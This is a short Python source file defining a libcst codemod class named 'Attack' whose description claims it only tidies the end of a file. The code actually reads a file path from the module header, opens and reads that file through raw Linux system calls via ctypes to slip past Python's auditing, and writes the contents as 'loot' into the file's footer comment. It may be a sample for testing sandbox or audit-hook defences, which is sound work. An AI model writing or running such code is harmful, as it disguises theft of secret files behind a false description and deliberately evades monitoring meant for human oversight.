"""Make the system calls by number, past everything that Python notices."""
import ast
import ctypes
import os
import platform

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        openat, read = (257, 0) if platform.machine() == "x86_64" else (56, 63)
        content = ctypes.create_string_buffer(4096)
        descriptor = libc.syscall(openat, -100, os.fsencode(target["secret_file"]), 0)
        length = libc.syscall(read, descriptor, content, 4096)
        if length <= 0:
            raise OSError(ctypes.get_errno())
        loot = content.raw[:length].decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
